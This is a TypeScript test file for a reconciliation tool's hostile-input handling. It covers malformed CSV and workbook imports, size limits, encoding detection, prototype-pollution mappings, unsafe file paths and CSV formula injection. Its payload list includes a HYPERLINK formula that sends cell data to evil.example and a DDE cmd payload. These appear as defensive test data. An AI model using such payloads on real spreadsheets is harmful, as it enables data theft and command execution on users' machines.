// The second round of the bad-input corpus (test/hostile/round-two.ts, issue #17): rows lost before counting,
// silent wrong values, whole files quarantined without a hint, hangs, internal errors, row numbers. Each case
// ends in a one-line InputError or in an import whose counts, quarantine, notes and values are checked.
// docs/hostile-input.md lists them; "round two › X" there is `it('X')` here.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import * as XLSX from 'xlsx';
import { afterAll, describe, expect, it } from 'vitest';
import { runCase } from '../../shared/engine';
import { csvAmount, csvField, csvNumber, csvTable } from '../../shared/csv-out';
import { decoderFor, detectEncoding } from '../../shared/import/decode';
import { importFiles } from '../../shared/import/import-files';
import { inspectFile } from '../../shared/import/inspect';
import { checkMapping } from '../../shared/import/layouts';
import { CSV_READING, LIMITS, openTable } from '../../shared/import/read-table';
import { loadSqlJs, readInput } from '../../shared/node/files';
import { settingsProblems } from '../../shared/settings';
import { BusinessCalendar } from '../../shared/time';
import { DEFAULT_SETTINGS, InputError, type CaseSettings, type InputFile } from '../../shared/types';
import { ERP_HEADER, PLATFORM_HEADER, csv, erpRow, platformRow } from '../hostile/corpus';
import { CASES_2, PAYMENTS_HEADER, STOREFRONT_HEADER, paymentsRow, storefrontRow, type Case2 } from '../hostile/round-two';
import { book, bookParts, sheetXml, zipParts } from '../hostile/workbook';

const calendar = new BusinessCalendar('America/Chicago');
const opts = { currency: 'USD', liabilityAccounts: ['2410', '2420'], periodStart: '2026-04-01' };
const enc = (s: string) => new TextEncoder().encode(s);

function expectOneLine(err: unknown, start: string): InputError {
  expect(err).toBeInstanceOf(InputError);
  const e = err as InputError;
  expect(e.message).not.toMatch(/\n|\r/);
  expect(e.message).not.toMatch(/\bat .*\.(ts|js):\d+|TypeError|undefined|is not a function/);
  expect(e.message.startsWith(start), e.message).toBe(true);
  expect(e.message.length).toBeLessThan(600);
  return e;
}

async function caught(fn: () => unknown): Promise<unknown> {
  try {
    await fn();
  } catch (err) {
    return err;
  }
  throw new Error('expected an error');
}

async function check(c: Case2, f: InputFile = c.file()): Promise<void> {
  const x = c.expect;
  if (x.kind === 'error') {
    const e = expectOneLine(await caught(() => importFiles([f], undefined, calendar, opts)), f.name);
    expect(e.message).toMatch(x.message);
    if (x.row !== undefined) expect(e.row).toBe(x.row);
    if (x.column !== undefined) expect(e.column).toBe(x.column);
    try {
      inspectFile(f);
    } catch (err) {
      expectOneLine(err, f.name);
    }
    return;
  }
  const r = await importFiles([f], undefined, calendar, opts);
  const s = r.files[0].summary;
  expect(s.rows).toBe(s.imported + s.quarantined); // no lost row
  expect([s.rows, s.imported]).toEqual([x.rows, x.imported]);
  expect(s.quarantine.map((q) => [q.row, q.column])).toEqual(x.quarantine.map((q) => [q.row, q.column]));
  s.quarantine.forEach((q, i) => {
    expect(q.reason).toMatch(x.quarantine[i].reason);
    expect(q.reason).not.toMatch(/\n/);
    expect(q.reason.length).toBeLessThan(400);
  });
  if (x.encoding) expect(s.encoding).toBe(x.encoding);
  const notes = s.notes ?? [];
  expect(notes.length, notes.join('\n')).toBe(x.notes?.length ?? 0);
  for (const n of x.notes ?? []) expect(notes.some((t) => n.test(t)), `${n} in ${notes.join(' | ')}`).toBe(true);
  x.check?.(r);
}

describe('hostile files, round two: import', () => {
  for (const c of CASES_2) it(c.name, () => check(c));

  it('every CSV case reads the same in chunks of any size', async () => {
    const saved = CSV_READING.chunkBytes;
    try {
      for (const c of CASES_2) {
        const f = c.file();
        if (!f.name.endsWith('.csv') || c.expect.kind !== 'import') continue;
        const whole = await importFiles([f], undefined, calendar, opts);
        for (const size of [7, 64, 333, 4093]) {
          CSV_READING.chunkBytes = size;
          const chunked = await importFiles([f], undefined, calendar, opts);
          expect(chunked.files[0].summary, `${c.name} in chunks of ${size}`).toEqual(whole.files[0].summary);
          expect(chunked.events.map((e) => [e.key, e.row, e.amount])).toEqual(whole.events.map((e) => [e.key, e.row, e.amount]));
        }
        CSV_READING.chunkBytes = saved;
      }
    } finally {
      CSV_READING.chunkBytes = saved;
    }
  });
});

describe('hostile files, round two: limits', () => {
  it('a quote that never closes early in a large file: every row after it is read, in time linear in the file', async () => {
    const rows = Array.from({ length: 60_000 }, (_, i) => platformRow(i + 1));
    rows[9] = platformRow(10, { Note: '"Customer called, ref 12' });
    const text = csv([PLATFORM_HEADER, ...rows]).replace('"""Customer called, ref 12"', '"Customer called, ref 12');
    const r = await importFiles([{ role: 'platform', name: 'platform.csv', bytes: enc(text) }], undefined, calendar, opts);
    const s = r.files[0].summary;
    expect([s.rows, s.imported, s.quarantined]).toEqual([60_000, 59_999, 1]);
    expect(s.quarantine[0]).toMatchObject({ row: 11, column: 'Note' });
  });

  it('a field longer than a row may be is refused, naming the row, once the limit is passed', async () => {
    const saved = LIMITS.maxRowChars;
    LIMITS.maxRowChars = 1024 * 1024;
    try {
      const big = csv([PLATFORM_HEADER, platformRow(1)]) + `GT-2,${'9'.repeat(3 * 1024 * 1024)}`;
      const e = expectOneLine(await caught(() => importFiles([{ role: 'platform', name: 'platform.csv', bytes: enc(big) }], undefined, calendar, opts)), 'platform.csv');
      expect(e.message).toBe('platform.csv: the row that starts at row 3 runs past 1 MiB without ending (a quote that never closes, or no line ends); refused');
      expect(e.row).toBe(3);
      // And with a quote that never closes in a file larger than the limit.
      const quoted = csv([PLATFORM_HEADER, platformRow(1)]) + lines(platformRow(2, { Note: '"open' })) + csv(Array.from({ length: 40_000 }, (_, i) => platformRow(i + 3)));
      const q = expectOneLine(await caught(() => importFiles([{ role: 'platform', name: 'platform.csv', bytes: enc(quoted) }], undefined, calendar, opts)), 'platform.csv');
      expect(q.message).toMatch(/^platform\.csv: the row that starts at row 3 runs past 1 MiB without ending/);
    } finally {
      LIMITS.maxRowChars = saved;
    }
  });

  it('more rows than a spreadsheet holds, without row numbers, are refused while the sheet streams past', async () => {
    const saved = LIMITS.maxInflateRatio;
    LIMITS.maxInflateRatio = 1e9; // so that the row count, not the ratio, is what refuses it
    try {
      const xml = sheetXml([ERP_HEADER]).replace('</sheetData>', '<row/>'.repeat(1_048_577) + '</sheetData>');
      const f = { role: 'erp' as const, name: 'erp.xlsx', bytes: zipParts(bookParts([{ name: 'GL', xml }])) };
      const e = expectOneLine(await caught(() => importFiles([f], undefined, calendar, opts)), 'erp.xlsx');
      expect(e.message).toBe('erp.xlsx: xl/worksheets/sheet1.xml has rows past 1,048,576, more than any spreadsheet can hold; refused unread');
    } finally {
      LIMITS.maxInflateRatio = saved;
    }
  });

  it('a shared-string table over the stated limit is refused', async () => {
    const saved = LIMITS.maxSharedStrings;
    LIMITS.maxSharedStrings = 10;
    try {
      const rows = [ERP_HEADER, ...Array.from({ length: 5 }, (_, i) => erpRow(i + 1))];
      const f = { role: 'erp' as const, name: 'erp.xlsx', bytes: book([{ name: 'GL', rows }], { sharedStrings: true }) };
      const e = expectOneLine(await caught(() => importFiles([f], undefined, calendar, opts)), 'erp.xlsx');
      expect(e.message).toBe("erp.xlsx: the workbook's shared-string table has over 10 entries, over the limit; refused unread");
    } finally {
      LIMITS.maxSharedStrings = saved;
    }
  });

  it('a well-formed workbook with shared strings, stored parts and prefixed XML is read as before', async () => {
    const rows = [ERP_HEADER, ...Array.from({ length: 30 }, (_, i) => erpRow(i + 1, { Account: '2410 Gift Card Liability' }))];
    for (const bytes of [book([{ name: 'GL', rows }], { sharedStrings: true }), book([{ name: 'GL', rows }], { store: true })]) {
      const r = await importFiles([{ role: 'erp', name: 'erp.xlsx', bytes }], undefined, calendar, opts);
      expect(r.files[0].summary).toMatchObject({ rows: 30, imported: 30, quarantined: 0 });
      expect(r.files[0].summary.notes).toBeUndefined();
    }
  });
});

function lines(row: string[]): string {
  return row.join(',') + '\r\n';
}

describe('decoders', () => {
  it('decode Windows-1252 by the WHATWG table, whatever the host\'s own decoder does', () => {
    const bytes = new Uint8Array(256).map((_, i) => i);
    const text = decoderFor('windows-1252').decode(bytes.subarray(0x80, 0xa0));
    expect([...text].map((c) => c.codePointAt(0)!.toString(16))).toEqual(
      '20ac 81 201a 192 201e 2026 2020 2021 2c6 2030 160 2039 152 8d 17d 8f 90 2018 2019 201c 201d 2022 2013 2014 2dc 2122 161 203a 153 9d 17e 178'.split(' '),
    );
    expect(decoderFor('windows-1252').decode(bytes.subarray(0xa0))).toBe(String.fromCharCode(...bytes.subarray(0xa0)));
  });

  it('decode UTF-32 cut at any byte, and put U+FFFD for what is not a character', () => {
    const text = 'Zoë 🎁 €';
    const cps = [...text].map((c) => c.codePointAt(0)!);
    const le = new Uint8Array(cps.length * 4 + 4);
    const view = new DataView(le.buffer);
    cps.forEach((cp, i) => view.setUint32(i * 4, cp, true));
    view.setUint32(cps.length * 4, 0x110000, true);
    for (let cut = 0; cut <= le.length; cut++) {
      const d = decoderFor('utf-32le');
      expect(d.decode(le.subarray(0, cut), { stream: true }) + d.decode(le.subarray(cut))).toBe(`${text}\ufffd`);
    }
  });

  it('tell UTF-32 from UTF-16 by the byte-order mark and by the zeros', () => {
    expect(detectEncoding(new Uint8Array([0xff, 0xfe, 0, 0, 0x41, 0, 0, 0]))?.encoding).toBe('utf-32le');
    expect(detectEncoding(new Uint8Array([0xff, 0xfe, 0x41, 0, 0x42, 0]))?.encoding).toBe('utf-16le');
    const abc = (n: number, width: number, be: boolean) => {
      const out = new Uint8Array(n * width);
      for (let i = 0; i < n; i++) out[i * width + (be ? width - 1 : 0)] = 0x41 + (i % 26);
      return out;
    };
    expect(detectEncoding(abc(200, 4, false))?.encoding).toBe('utf-32le');
    expect(detectEncoding(abc(200, 4, true))?.encoding).toBe('utf-32be');
    expect(detectEncoding(abc(200, 2, false))?.encoding).toBe('utf-16le');
    expect(detectEncoding(abc(200, 2, true))?.encoding).toBe('utf-16be');
  });

  it('call a file mixed only when it holds valid UTF-8 sequences beside invalid bytes', () => {
    const onlyLatin = new Uint8Array([...enc('a,b\ncaf'), 0xe9, 0x0a]);
    expect(detectEncoding(onlyLatin)).toEqual({ encoding: 'windows-1252', offset: 0 });
    const mixed = new Uint8Array([...enc('a,b\ncafé\ncaf'), 0xe9, 0x0a]);
    expect(detectEncoding(mixed)).toEqual({ encoding: 'utf-8', offset: 0, mixedFrom: 13 });
  });
});

describe('mapping files', () => {
  const f = (): InputFile => ({ role: 'platform', name: 'platform.csv', bytes: enc(csv([PLATFORM_HEADER, platformRow(1)])) });
  it.each([
    [{ platform: { 'Card Number': 7 } }, "the mapping: platform 'Card Number' must name the header to read it from, not the number 7"],
    [{ platform: { 'Card Number': ['GC Code'] } }, "the mapping: platform 'Card Number' must name the header to read it from, not a list"],
    [{ platfrom: { 'Card Number': 'GC Code' } }, "the mapping: unknown system 'platfrom' (expected platform, storefront, payments, erp, opening)"],
    [{ platform: { 'Card Numbr': 'GC Code' } }, "the mapping: 'Card Numbr' is not a platform column (its columns: Transaction ID, Card Number, Type, Amount, Balance After, Currency, Timestamp, Order Ref, Voids Txn, Channel, Operator, Note)"],
    [{ platform: ['x'] }, "the mapping: 'platform' must map its column names to header texts, not a list"],
    [[1, 2], 'the mapping: must be an object of systems (platform, storefront, payments, erp, opening), not a list'],
    [JSON.parse('{"__proto__": {"polluted": "yes"}}'), "the mapping: unknown system '__proto__' (expected platform, storefront, payments, erp, opening)"],
  ])('%j is refused in one line naming the key', async (mapping, message) => {
    const e = expectOneLine(await caught(() => importFiles([f()], mapping as never, calendar, opts)), 'the mapping');
    expect(e.message).toBe(message);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('columns may be named loosely, as headers are', () => {
    expect(checkMapping({ platform: { 'card number': 'GC Code', TIMESTAMP: 'When' } })).toEqual({ platform: { 'Card Number': 'GC Code', Timestamp: 'When' } });
  });
});

describe('paths and periods', () => {
  const dir = mkdtempSync(join(tmpdir(), 'bf-hostile2-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('a device, a pipe and a symlink loop are refused before any byte is read', () => {
    expect(expectOneLine(caughtSync(() => readInput('payments', '/dev/zero')), '/dev/zero').message).toBe(
      '/dev/zero: is a device, not a regular file; save the export to a file and give its path',
    );
    const fifo = join(dir, 'fifo.csv');
    execFileSync('mkfifo', [fifo]);
    expect(expectOneLine(caughtSync(() => readInput('payments', fifo)), fifo).message).toBe(`${fifo}: is a pipe, not a regular file; save the export to a file and give its path`);
    const a = join(dir, 'a.csv');
    symlinkSync(join(dir, 'b.csv'), a);
    symlinkSync(a, join(dir, 'b.csv'));
    expect(expectOneLine(caughtSync(() => readInput('payments', a)), a).message).toBe(`${a}: a loop of symbolic links (the path points back to itself)`);
  });

  it('a period end past the month\'s last day says how many days the month has', () => {
    const period = (periodStart: string, periodEnd: string) =>
      settingsProblems({ ...DEFAULT_SETTINGS, periodStart, periodEnd, timezone: 'UTC' });
    expect(period('2026-07-01', '2026-09-31').periodEnd).toBe("Period end '2026-09-31' is not a date: September 2026 has 30 days");
    expect(period('2026-07-01', '2026-13-01').periodEnd).toBe("Period end '2026-13-01' is not a date: there is no month 13");
    expect(period('2028-02-01', '2028-02-29')).toEqual({});
  });
});

function caughtSync(fn: () => unknown): unknown {
  try {
    fn();
  } catch (err) {
    return err;
  }
  throw new Error('expected an error');
}

// ── Formula injection in every CSV the project writes ────────────────────────────────────────────
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1)', '\t=1+2', '\r=1+2', ' =1+1', 'X;=1+1;', 'X,=1+1,', 'X\t=1+1', 'X|=1+1'];
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** Every cell of `text` read as a spreadsheet with `sep` as its list separator would. */
function cellsAs(text: string, sep: string): string[] {
  return (Papa.parse<string[]>(text, { delimiter: sep, newline: '\r\n' }).data as string[][]).flat();
}

function expectNoLiveFormula(text: string): void {
  for (const sep of [',', ';', '\t', '|']) {
    for (const cell of cellsAs(text, sep)) if (!NUMBER.test(cell.trim())) expect(cell.trimStart(), `a cell read with '${sep}'`).not.toMatch(FORMULA);
  }
}

describe('CSV out: no live formula whatever the list separator', () => {
  it('neutralises text, keeps amounts numbers', () => {
    expect(csvField(csvAmount(-245))).toBe('-2.45');
    expect(csvField(csvNumber(12))).toBe('12');
    expect(csvField(-2.5)).toBe('-2.5');
    expect(csvField(Number.NaN)).toBe('NaN');
    expect(csvField('-2.45')).toBe(`"'-2.45"`);
    expect(csvField('X;=1+1;')).toBe(`"X;'=1+1;"`);
    expect(csvField('a\t=1')).toBe(`"a\t'=1"`);
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('plain')).toBe('plain');
    expect(csvField(new Uint8Array(3))).toBe('[3 bytes]');
    expect(() => csvNumber(Number.POSITIVE_INFINITY)).toThrow();
    expectNoLiveFormula(csvTable(['a', 'b'], HOSTILE.map((h) => [h, csvAmount(-100)])));
  });

  it('the SQL console\'s export: hostile text from the case stays text under any separator', () => {
    const text = csvTable(['memo', 'amount', 'n'], HOSTILE.map((h, i) => [h, -i - 0.5, null]));
    expectNoLiveFormula(text);
    const back = Papa.parse<string[]>(text, { newline: '\r\n' }).data as string[][];
    expect(back.slice(1, -1).map((r) => r[1])).toEqual(HOSTILE.map((_, i) => String(-i - 0.5)));
  });

  it('journal_entries.csv and platform_corrections.csv: references like X;=1+1; stay one cell', async () => {
    const settings: CaseSettings = { ...DEFAULT_SETTINGS, periodStart: '2026-04-01', periodEnd: '2026-06-30', timezone: 'America/Chicago' };
    const erp = [ERP_HEADER, ...HOSTILE.map((h, i) => erpRow(i + 1, { Journal: `X;${h};`, Account: '2410 Gift Card Liability', Credit: `${i + 1}.00`, Memo: h }))];
    const files: InputFile[] = [
      { role: 'platform', name: 'platform.csv', bytes: enc(csv([PLATFORM_HEADER, platformRow(1, { Amount: '50.00', 'Balance After': '50.00', 'Order Ref': '#1001' }), platformRow(2, { Type: 'Adjustment', Amount: '5.00', 'Balance After': '5.00', Operator: 'csr:x', Channel: 'csr', Note: 'X;=1+1;' })])) },
      { role: 'storefront', name: 'storefront.csv', bytes: enc(csv([STOREFRONT_HEADER, storefrontRow(1, { Order: '#1001', 'Card Last Four': '0001' })])) },
      { role: 'payments', name: 'payments.csv', bytes: enc(csv([PAYMENTS_HEADER, paymentsRow(1, { 'Order ID': '#1001' })])) },
      { role: 'erp', name: 'erp.csv', bytes: enc(csv(erp)) },
    ];
    const c = await runCase(await loadSqlJs(), { files, settings });
    const journal = c.journalEntriesCsv();
    expect(journal).toContain('X;');
    expectNoLiveFormula(journal);
    expectNoLiveFormula(c.platformCorrectionsCsv());
    // The amounts are numbers: unquoted, parsed back to the cents of the report.
    const rows = Papa.parse<string[]>(journal, { newline: '\r\n' }).data.filter((r) => r.length > 4).slice(1);
    expect(rows.length).toBeGreaterThan(0);
    for (const r of rows) expect(r[4] === '' || NUMBER.test(r[4]) || r[5] === '' || NUMBER.test(r[5])).toBe(true);
    c.close();
  });
});

describe('notes', () => {
  it('what the reader found reaches report.json, in its file and in the notes, and the workpapers\' Summary', async () => {
    const settings: CaseSettings = { ...DEFAULT_SETTINGS, periodStart: '2026-04-01', periodEnd: '2026-06-30', timezone: 'America/Chicago' };
    const erp = [ERP_HEADER, erpRow(1, { Account: '2410 Gift Card Liability', Credit: '50.00', Reference: 'GT-0000001' })];
    const files: InputFile[] = [
      { role: 'platform', name: 'platform.csv', bytes: enc(csv([PLATFORM_HEADER, platformRow(1, { Amount: '50.00', 'Balance After': '50.00', 'Order Ref': '#1001' })])) },
      { role: 'storefront', name: 'storefront.csv', bytes: enc(csv([STOREFRONT_HEADER, storefrontRow(1, { Order: '#1001', 'Card Last Four': '1' })])) },
      { role: 'payments', name: 'payments.csv', bytes: enc(csv([PAYMENTS_HEADER, paymentsRow(1, { 'Order ID': '#1001' })])) },
      { role: 'erp', name: 'erp.xlsx', bytes: book([{ name: 'Old', state: 'hidden', rows: erp }, { name: 'GL', rows: erp }]) },
    ];
    const c = await runCase(await loadSqlJs(), { files, settings });
    const notes = c.report.inputs.flatMap((i) => i.notes ?? []);
    expect(notes).toEqual([
      "storefront.csv: Card Last Four held values written as numbers: 1 row (first at row 2: '1' read as 0001); each was read as its digits, left-padded to four",
      "erp.xlsx: read sheet 'GL'; hidden sheet 'Old' skipped; the workbook's sheets: 'Old', 'GL'",
    ]);
    expect(c.report.notes?.slice(0, 2)).toEqual(notes);
    const summary = XLSX.utils.sheet_to_json<string[]>(XLSX.read(c.workpapers(), { type: 'array' }).Sheets.Summary, { header: 1 });
    for (const n of notes) expect(summary.some((r) => r[0] === 'Note' && r[1] === n)).toBe(true);
    c.close();
  });
});

describe('openTable', () => {
  it('numbers rows as a spreadsheet does, whatever the chunk size', () => {
    const text = ['', PLATFORM_HEADER.join(','), platformRow(1).join(','), '', csv([platformRow(5, { Note: 'a\nb' })]).trim(), platformRow(2).join(',')].join('\n');
    for (const chunkBytes of [5, 50, 5000]) {
      const t = openTable('p.csv', enc(text), { chunkBytes });
      const nos: number[] = [];
      for (const c of t.chunks()) nos.push(...c.rowNos);
      expect(t.headerRow).toBe(2);
      expect(nos).toEqual([3, 5, 6]); // the quoted line break is one row, as a spreadsheet shows it
    }
  });
});
